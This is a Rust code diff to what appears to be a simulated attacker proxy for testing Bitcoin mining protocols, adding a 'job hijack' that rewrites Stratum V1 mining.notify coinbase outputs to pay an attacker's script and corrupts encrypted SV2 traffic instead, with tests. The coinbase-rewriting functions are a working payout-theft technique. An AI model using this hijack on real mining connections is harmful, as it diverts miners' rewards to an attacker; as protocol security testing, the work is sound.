@@ -28,6 +28,16 @@ pub enum Attack {
     /// a stream it cannot read as SV1 (SV2's Noise), its rewrite lands on ciphertext: it
     /// changes one byte of the first chunk each connection sends after the attack began.
     HijackWorker { account: String },
+    /// The job hijack of a malicious proxy: in each SV1 `mining.notify`, every coinbase
+    /// output that pays (a witness commitment pays nothing) pays the attacker's `payout`
+    /// script instead. The miners hash for the attacker: a block they find pays it, and the
+    /// pool, which builds its own coinbase, rejects their shares. On a stream it cannot
+    /// read (SV2's Noise), its rewrite lands on ciphertext: it changes one byte of the
+    /// first chunk the pool sends each connection once the attack is on.
+    HijackJob {
+        #[serde(with = "hex_bytes")]
+        payout: Vec<u8>,
+    },
     /// Flips one bit of every `every_bytes`-th byte the link carries, each way (counted
     /// over all its connections): line noise, or a middlebox that mangles what it carries.
     Tamper { every_bytes: u64 },
@@ -43,6 +53,7 @@ impl Attack {
     pub fn kind(&self) -> &'static str {
         match self {
             Attack::HijackWorker { .. } => "hijack-worker",
+            Attack::HijackJob { .. } => "hijack-job",
             Attack::Tamper { .. } => "tamper",
             Attack::Inject => "inject",
         }
@@ -107,6 +118,7 @@ impl Attacker {
             once_done: false,
             worker: None,
             job: None,
+            extranonce1_size: 4,
             extranonce2_size: 8,
             applied: false,
             closed: false,
@@ -139,7 +151,8 @@ pub(crate) struct Connection {
     /// job's id and time.
     worker: Option<String>,
     job: Option<(Value, Value)>,
-    /// The extranonce2 size the pool gave at subscribe.
+    /// The extranonce1 and extranonce2 sizes the pool gave at subscribe.
+    extranonce1_size: usize,
     extranonce2_size: usize,
     applied: bool,
     closed: bool,
@@ -165,17 +178,27 @@ impl Connection {
         match (&attacker.attack, self.protocol) {
             (Attack::Tamper { every_bytes }, _) => self.tamper(direction, chunk, *every_bytes),
             (attack, Protocol::Sv1) => self.sv1_lines(direction, chunk, attack),
-            (Attack::HijackWorker { .. }, _) => self.change_ciphertext(direction, chunk),
+            (Attack::HijackWorker { .. }, _) => {
+                self.change_ciphertext(Direction::Up, direction, chunk)
+            }
+            (Attack::HijackJob { .. }, _) => {
+                self.change_ciphertext(Direction::Down, direction, chunk)
+            }
             (Attack::Inject, _) => self.inject_frame(direction, chunk),
         }
     }
 
     fn record(&mut self, direction: Direction, action: AttackAction) {
+        self.record_job(direction, action, None);
+    }
+
+    fn record_job(&mut self, direction: Direction, action: AttackAction, job_id: Option<String>) {
         self.applied = true;
         self.attacker.recorder.record(Event::AttackApplied {
             conn: self.conn,
             up: direction == Direction::Up,
             action,
+            job_id,
         });
     }
 
@@ -197,15 +220,17 @@ impl Connection {
         out
     }
 
-    /// SV2's stream read by an attacker who cannot decrypt it: its rewrite of the channel's
-    /// identity changes a byte of the first chunk the farm sends once the attack is on.
-    fn change_ciphertext(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
+    /// SV2's stream read by an attacker who cannot decrypt it: its rewrite (of the
+    /// channel's identity going up, of a job coming down) changes a byte of the first chunk
+    /// going `rewritten` once the attack is on.
+    fn change_ciphertext(
+        &mut self,
+        rewritten: Direction,
+        direction: Direction,
+        chunk: &[u8],
+    ) -> Vec<u8> {
         let mut out = chunk.to_vec();
-        if direction == Direction::Up
-            && !self.once_done
-            && !out.is_empty()
-            && self.attacker.active()
-        {
+        if direction == rewritten && !self.once_done && !out.is_empty() && self.attacker.active() {
             let middle = out.len() / 2;
             out[middle] ^= 0xff;
             self.once_done = true;
@@ -245,6 +270,10 @@ impl Connection {
             }
             match (direction, active, attack) {
                 (_, false, _) => out.extend_from_slice(line),
+                (Direction::Down, true, Attack::HijackJob { payout }) => {
+                    self.rewrite_job(message, line, payout, &mut out)
+                }
+                (Direction::Up, true, Attack::HijackJob { .. }) => out.extend_from_slice(line),
                 (Direction::Down, true, _) => {
                     if !message.as_ref().is_some_and(is_answer_to_injected) {
                         out.extend_from_slice(line);
@@ -280,6 +309,9 @@ impl Connection {
                     .filter(|s| (1..=32).contains(s))
                 {
                     self.extranonce2_size = size as usize;
+                }
+                if let Some(extranonce1) = message["result"][1].as_str() {
+                    self.extranonce1_size = extranonce1.len() / 2;
                 }
             }
             _ => {}
@@ -350,6 +382,38 @@ impl Connection {
         self.record(Direction::Up, action);
     }
 
+    /// A pool's line, and a `mining.notify` with its coinbase paying `payout` instead.
+    fn rewrite_job(
+        &mut self,
+        message: Option<Value>,
+        line: &[u8],
+        payout: &[u8],
+        out: &mut Vec<u8>,
+    ) {
+        let Some(mut notify) = message.filter(|m| m["method"] == "mining.notify") else {
+            out.extend_from_slice(line);
+            return;
+        };
+        let params = &notify["params"];
+        let extranonce = self.extranonce1_size + self.extranonce2_size;
+        let coinb = |i: usize| params[i].as_str().and_then(|h| hex::decode(h).ok());
+        let redirected = (coinb(2).zip(coinb(3)))
+            .and_then(|(c1, c2)| redirect_payout(&c1, &c2, extranonce, payout));
+        let Some(coinb2) = redirected else {
+            tracing::warn!(
+                conn = self.conn,
+                "a mining.notify whose coinbase does not parse passes unchanged"
+            );
+            out.extend_from_slice(line);
+            return;
+        };
+        let job_id = params[0].as_str().map(str::to_string);
+        notify["params"][3] = Value::from(hex::encode(coinb2));
+        out.extend_from_slice(notify.to_string().as_bytes());
+        out.push(b'\n');
+        self.record_job(Direction::Down, AttackAction::JobRewritten, job_id);
+    }
+
     /// Records how a connection the attacker changed ended: `by` the end that closed
     /// first, at `t_ns`.
     pub(crate) fn closed(&mut self, by: LinkEnd, t_ns: u64) {
@@ -363,6 +427,93 @@ impl Connection {
                 },
             );
         }
+    }
+}
+
+/// The second part of a coinbase (`coinb2` of `mining.notify`) with every output that pays
+/// (above 0 sats: a witness commitment pays nothing) paying `script` instead; `None` when
+/// it does not parse as the rest of the coinbase whose first part is `coinb1`, with
+/// `extranonce` bytes between them.
+fn redirect_payout(
+    coinb1: &[u8],
+    coinb2: &[u8],
+    extranonce: usize,
+    script: &[u8],
+) -> Option<Vec<u8>> {
+    // Version (4), one input (1), its outpoint (36), then the scriptSig's length.
+    let (script_sig, size) = varint(coinb1.get(41..)?)?;
+    let in_coinb1 = coinb1.len().checked_sub(41 + size)?;
+    let rest = usize::try_from(script_sig)
+        .ok()?
+        .checked_sub(in_coinb1 + extranonce)?;
+    // The scriptSig's rest and the input's sequence, then the outputs.
+    let mut at = rest + 4;
+    let (outputs, size) = varint(coinb2.get(at..)?)?;
+    at += size;
+    let mut out = coinb2.get(..at)?.to_vec();
+    for _ in 0..outputs {
+        let value = coinb2.get(at..at + 8)?;
+        let (length, size) = varint(coinb2.get(at + 8..)?)?;
+        let end = (at + 8 + size).checked_add(usize::try_from(length).ok()?)?;
+        let own = coinb2.get(at + 8..end)?;
+        out.extend_from_slice(value);
+        if u64::from_le_bytes(value.try_into().ok()?) > 0 {
+            push_varint(&mut out, script.len() as u64);
+            out.extend_from_slice(script);
+        } else {
+            out.extend_from_slice(own);
+        }
+        at = end;
+    }
+    // The lock time ends it.
+    let lock_time = coinb2.get(at..).filter(|rest| rest.len() == 4)?;
+    out.extend_from_slice(lock_time);
+    Some(out)
+}
+
+/// A Bitcoin compact size at the start of `bytes`: its value and its length.
+fn varint(bytes: &[u8]) -> Option<(u64, usize)> {
+    let wide = |n: usize| {
+        let mut value = [0u8; 8];
+        value[..n].copy_from_slice(bytes.get(1..1 + n)?);
+        Some((u64::from_le_bytes(value), 1 + n))
+    };
+    match *bytes.first()? {
+        0xfd => wide(2),
+        0xfe => wide(4),
+        0xff => wide(8),
+        b => Some((u64::from(b), 1)),
+    }
+}
+
+fn push_varint(out: &mut Vec<u8>, n: u64) {
+    match n {
+        0..=0xfc => out.push(n as u8),
+        0xfd..=0xffff => {
+            out.push(0xfd);
+            out.extend_from_slice(&(n as u16).to_le_bytes());
+        }
+        0x1_0000..=0xffff_ffff => {
+            out.push(0xfe);
+            out.extend_from_slice(&(n as u32).to_le_bytes());
+        }
+        _ => {
+            out.push(0xff);
+            out.extend_from_slice(&n.to_le_bytes());
+        }
+    }
+}
+
+/// A script in a scenario and a spec: hex.
+mod hex_bytes {
+    use serde::{Deserialize, Deserializer, Serializer};
+
+    pub fn serialize<S: Serializer>(bytes: &[u8], s: S) -> Result<S::Ok, S::Error> {
+        s.serialize_str(&hex::encode(bytes))
+    }
+
+    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<u8>, D::Error> {
+        hex::decode(String::deserialize(d)?).map_err(serde::de::Error::custom)
     }
 }
 
@@ -397,6 +548,83 @@ mod tests {
 
     fn text(bytes: Vec<u8>) -> String {
         String::from_utf8(bytes).unwrap()
+    }
+
+    /// A coinbase as a pool splits it around the extranonce (4 + 8 bytes): its payout
+    /// (50 BTC to a P2WPKH script) and its witness commitment (0 sats).
+    fn split_coinbase() -> (Vec<u8>, Vec<u8>) {
+        let tag = b"/pool/";
+        let script_sig_len = 4 + tag.len() + 12;
+        let mut coinb1 = hex::decode("0100000001").unwrap();
+        coinb1.extend([0u8; 32]);
+        coinb1.extend([0xff; 4]);
+        coinb1.push(script_sig_len as u8);
+        coinb1.extend([0x03, 0x10, 0x27, 0x00]);
+        coinb1.extend(tag);
+        let mut coinb2 = vec![0xff; 4];
+        coinb2.push(2);
+        coinb2.extend(5_000_000_000u64.to_le_bytes());
+        coinb2.push(22);
+        coinb2.extend([0x00, 0x14]);
+        coinb2.extend([0x11; 20]);
+        coinb2.extend(0u64.to_le_bytes());
+        coinb2.push(38);
+        coinb2.extend(hex::decode("6a24aa21a9ed").unwrap());
+        coinb2.extend([0x22; 32]);
+        coinb2.extend([0u8; 4]);
+        (coinb1, coinb2)
+    }
+
+    #[test]
+    fn a_job_hijack_redirects_the_paying_outputs_and_keeps_the_commitment() {
+        let (coinb1, coinb2) = split_coinbase();
+        // A bare-key script, longer than the pool's: the length changes with it.
+        let payout = vec![0x51; 40];
+        let redirected = redirect_payout(&coinb1, &coinb2, 12, &payout).unwrap();
+        let mut expected = coinb2[..5].to_vec();
+        expected.extend(5_000_000_000u64.to_le_bytes());
+        expected.push(40);
+        expected.extend(&payout);
+        expected.extend(&coinb2[5 + 8 + 1 + 22..]);
+        assert_eq!(redirected, expected);
+        // With another extranonce size the outputs are not where they would be: refused.
+        assert_eq!(redirect_payout(&coinb1, &coinb2, 11, &payout), None);
+        assert_eq!(redirect_payout(&coinb1, &coinb2[..30], 12, &payout), None);
+        assert_eq!(varint(&[0xfd, 0x01, 0x02]), Some((0x0201, 3)));
+        let mut wide = Vec::new();
+        push_varint(&mut wide, 0x0201);
+        assert_eq!(wide, [0xfd, 0x01, 0x02]);
+    }
+
+    #[test]
+    fn a_job_hijack_rewrites_each_notify_and_leaves_the_farms_requests() {
+        let payout = vec![0x00, 0x14, 0xee, 0xee];
+        let mut c = connection(
+            Attack::HijackJob {
+                payout: payout.clone(),
+            },
+            Duration::ZERO,
+        );
+        let subscribe = br#"{"id":1,"method":"mining.subscribe","params":[]}"#.to_vec();
+        let up = [subscribe, b"\n".to_vec()].concat();
+        assert_eq!(c.pass(Direction::Up, &up), up, "the farm's requests pass");
+        let answer = br#"{"id":1,"result":[[],"0a0b0c0d",8],"error":null}"#;
+        c.pass(Direction::Down, &[&answer[..], b"\n"].concat());
+        let (coinb1, coinb2) = split_coinbase();
+        let notify = serde_json::json!({"id": null, "method": "mining.notify", "params": [
+            "j7", "00", hex::encode(&coinb1), hex::encode(&coinb2), [], "20000000", "1d00ffff", "5f5e1000", true
+        ]});
+        let out = text(c.pass(Direction::Down, format!("{notify}\n").as_bytes()));
+        let got: Value = serde_json::from_str(out.trim_end()).unwrap();
+        let expected = redirect_payout(&coinb1, &coinb2, 12, &payout).unwrap();
+        assert_eq!(got["params"][3], hex::encode(expected));
+        assert_eq!(got["params"][0], "j7");
+        assert!(c.applied);
+        // A stream it cannot read: the pool's first chunk is changed, the farm's is not.
+        let mut opaque = connection(Attack::HijackJob { payout }, Duration::ZERO);
+        assert_eq!(opaque.pass(Direction::Up, &[1, 2, 3]), vec![1, 2, 3]);
+        assert_ne!(opaque.pass(Direction::Down, &[1, 2, 3]), vec![1, 2, 3]);
+        assert_eq!(opaque.pass(Direction::Down, &[1, 2, 3]), vec![1, 2, 3]);
     }
 
     #[test]
